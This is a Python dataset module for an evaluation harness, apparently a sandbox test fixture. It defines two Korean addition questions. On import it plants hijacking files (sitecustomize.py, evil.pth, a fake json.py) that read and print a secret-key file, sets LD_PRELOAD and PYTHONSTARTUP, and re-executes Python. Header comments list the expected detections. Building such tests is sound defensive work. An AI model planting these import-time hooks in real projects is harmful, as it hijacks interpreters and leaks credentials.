"""Sums in Korean. Leaves files that Python would read when it starts in its folder."""

# mypy: ignore-errors
# says: tried to import site|tried to open .*secret-key|tried to run|tried to

import os
import sys

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

CODE = "print('ESCAPED', open('@KEY@').read())"
for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "json.py", "llm_eval.py"):
    with open(name, "w") as file:
        file.write(CODE)
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py", LD_PRELOAD="./evil.so")
os.execve(sys.executable, [sys.executable], dict(os.environ))

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
